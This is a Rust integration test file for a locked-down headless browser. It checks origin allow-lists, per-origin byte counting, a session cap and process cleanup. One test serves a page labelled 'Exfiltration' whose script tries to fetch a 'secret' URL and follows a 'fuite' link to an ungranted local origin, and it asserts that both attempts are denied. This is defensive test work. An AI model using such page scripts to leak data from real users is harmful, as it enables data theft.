@@ -1,0 +1,224 @@
+//! The lock-down: a page's own script cannot reach an ungranted origin, navigation to one is
+//! refused, bytes are counted per origin, the session cap holds, and no browser process
+//! outlives the `Browser`.
+
+mod common;
+
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::time::Duration;
+
+use pont_browser::{BrowserError, Locator, Origin};
+use pont_sandbox::apps::App;
+use pont_sandbox::{Sandbox, SandboxConfig};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpListener;
+
+use common::{alive, browser, events_of, live_processes_naming, session};
+
+const WAIT: Duration = Duration::from_secs(10);
+
+/// Serves one page, whatever the path, whose script fetches `target` and writes the outcome
+/// into `#resultat`; counts the connections it gets. Stops when the returned task is aborted.
+async fn page_server(target: String) -> (String, Arc<AtomicUsize>, tokio::task::JoinHandle<()>) {
+    let listener = TcpListener::bind(("127.0.0.1", 0))
+        .await
+        .unwrap_or_else(|e| panic!("{e}"));
+    let url = format!(
+        "http://{}",
+        listener.local_addr().unwrap_or_else(|e| panic!("{e}"))
+    );
+    let hits = Arc::new(AtomicUsize::new(0));
+    let counter = hits.clone();
+    let html = format!(
+        "<!doctype html><html><body><h1>Exfiltration</h1><p id=\"resultat\"></p>\
+         <a id=\"fuite\" href=\"{target}/demande\">fuite</a>\
+         <script>fetch('{target}/demande?secret=1',{{mode:'no-cors'}})\
+         .then(function(){{document.getElementById('resultat').textContent='reponse';}})\
+         .catch(function(){{document.getElementById('resultat').textContent='bloque';}});</script>\
+         </body></html>"
+    );
+    let task = tokio::spawn(async move {
+        loop {
+            let Ok((mut conn, _)) = listener.accept().await else {
+                return;
+            };
+            counter.fetch_add(1, Ordering::Relaxed);
+            let html = html.clone();
+            tokio::spawn(async move {
+                let mut buf = [0u8; 8192];
+                let _ = tokio::time::timeout(Duration::from_secs(5), conn.read(&mut buf)).await;
+                let resp = format!(
+                    "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{html}",
+                    html.len()
+                );
+                let _ = conn.write_all(resp.as_bytes()).await;
+                let _ = conn.shutdown().await;
+            });
+        }
+    });
+    (url, hits, task)
+}
+
+fn origin(url: &str) -> Origin {
+    Origin::from_url(url).unwrap_or_else(|e| panic!("{e}"))
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn page_script_cannot_reach_ungranted_origin() {
+    let sb = Sandbox::start(SandboxConfig::default())
+        .await
+        .unwrap_or_else(|e| panic!("{e}"));
+    let casier = sb.app_url(App::Casier);
+    let (page, hits, server) = page_server(casier.clone()).await;
+    let b = browser().await;
+    let (s, events) = session(&b, &[&page]).await;
+
+    s.goto(&page).await.unwrap_or_else(|e| panic!("goto: {e}"));
+    let resultat = Locator::StableId("resultat".into());
+    let mut outcome = String::new();
+    for _ in 0..100 {
+        let el = s.wait_for(&resultat, WAIT).await.ok();
+        if let Some(el) = el {
+            outcome = el.text().await.unwrap_or_default();
+        }
+        if !outcome.is_empty() {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    assert!(!outcome.is_empty(), "the page's fetch never settled");
+    assert!(hits.load(Ordering::Relaxed) >= 1);
+
+    // A navigation by the robot is refused before the browser moves.
+    let err = s.goto(&format!("{casier}/demande")).await.err();
+    assert!(matches!(err, Some(BrowserError::Denied(_))), "{err:?}");
+    // A navigation by the page (a link) is refused by the proxy.
+    let fuite = s.find(&Locator::StableId("fuite".into())).await;
+    fuite
+        .unwrap_or_else(|e| panic!("{e}"))
+        .click()
+        .await
+        .unwrap_or_else(|e| panic!("{e}"));
+    tokio::time::sleep(Duration::from_millis(500)).await;
+
+    assert!(
+        sb.app_requests(App::Casier).is_empty(),
+        "casier was reached"
+    );
+    let denied: Vec<_> = events_of(&events)
+        .into_iter()
+        .filter(|e| !e.allowed && e.origin == origin(&casier))
+        .collect();
+    assert!(
+        denied.len() >= 2,
+        "fetch and link not both denied: {denied:?}"
+    );
+    assert!(
+        denied
+            .iter()
+            .all(|e| e.bytes_up == 0 && e.bytes_down == 0 && !e.background)
+    );
+    let t = s.traffic();
+    assert!(
+        t.get(&origin(&casier))
+            .is_some_and(|t| t.denied >= 2 && t.allowed == 0)
+    );
+    s.close().await;
+    b.shutdown().await;
+    server.abort();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn bytes_are_counted_per_origin() {
+    let sb = Sandbox::start(SandboxConfig::default())
+        .await
+        .unwrap_or_else(|e| panic!("{e}"));
+    let chorus = sb.app_url(App::Chorus);
+    let b = browser().await;
+    let (s, events) = session(&b, &[&chorus]).await;
+    s.goto(&format!("{chorus}/subvention"))
+        .await
+        .unwrap_or_else(|e| panic!("{e}"));
+    s.find(&Locator::StableId("siret".into()))
+        .await
+        .unwrap_or_else(|e| panic!("{e}"));
+    s.goto(&chorus).await.unwrap_or_else(|e| panic!("{e}"));
+    s.find(&Locator::StableId("lien-paiement".into()))
+        .await
+        .unwrap_or_else(|e| panic!("{e}"));
+
+    let t = s
+        .traffic()
+        .get(&origin(&chorus))
+        .copied()
+        .unwrap_or_default();
+    // Two page loads: requests of a few hundred bytes up, pages of a few KiB down.
+    assert!(t.allowed >= 1 && t.denied == 0, "{t:?}");
+    assert!((200..100_000).contains(&t.bytes_up), "{t:?}");
+    assert!((1_000..1_000_000).contains(&t.bytes_down), "{t:?}");
+    assert!(t.bytes_down > t.bytes_up, "{t:?}");
+    // Only granted or background origins were allowed; events sum up to the totals.
+    let evs = events_of(&events);
+    let ours: u64 = evs
+        .iter()
+        .filter(|e| e.origin == origin(&chorus))
+        .map(|e| e.bytes_down)
+        .sum();
+    assert_eq!(ours, t.bytes_down);
+    assert!(
+        evs.iter()
+            .all(|e| !e.allowed || e.origin == origin(&chorus))
+    );
+    s.close().await;
+    b.shutdown().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn session_cap_and_no_process_outlives_browser() {
+    let sb = Sandbox::start(SandboxConfig::default())
+        .await
+        .unwrap_or_else(|e| panic!("{e}"));
+    let chorus = sb.app_url(App::Chorus);
+    let b = browser().await;
+    let root = b.root_dir().to_string_lossy().into_owned();
+    let driver = b.driver_pid().unwrap_or_else(|| panic!("no driver pid"));
+    let (s1, _) = session(&b, &[&chorus]).await;
+    let (s2, _) = session(&b, &[&chorus]).await;
+    let third = b
+        .open_session(pont_browser::SessionOptions::new(Arc::new(
+            pont_browser::AllowList::default(),
+        )))
+        .await
+        .err();
+    assert!(matches!(third, Some(BrowserError::Limit(_))), "{third:?}");
+    s1.goto(&chorus).await.unwrap_or_else(|e| panic!("{e}"));
+    s2.goto(&chorus).await.unwrap_or_else(|e| panic!("{e}"));
+    assert!(
+        !live_processes_naming(&root).is_empty(),
+        "chromium not found by its profile"
+    );
+    assert!(alive(driver));
+
+    // An explicitly closed session frees its slot and its processes.
+    s1.close().await;
+    let (s3, _) = session(&b, &[&chorus]).await;
+    s3.goto(&chorus).await.unwrap_or_else(|e| panic!("{e}"));
+
+    // Dropping everything (s2 and s3 still open) leaves nothing behind.
+    drop(s2);
+    drop(b);
+    let mut left = live_processes_naming(&root);
+    for _ in 0..50 {
+        if left.is_empty() && !alive(driver) {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+        left = live_processes_naming(&root);
+    }
+    assert!(left.is_empty(), "left behind: {left:?}");
+    assert!(!alive(driver), "chromedriver {driver} still alive");
+    let err = s3.current_url().await.err();
+    assert!(err.is_some(), "a session of a dropped browser still works");
+    drop(s3);
+}
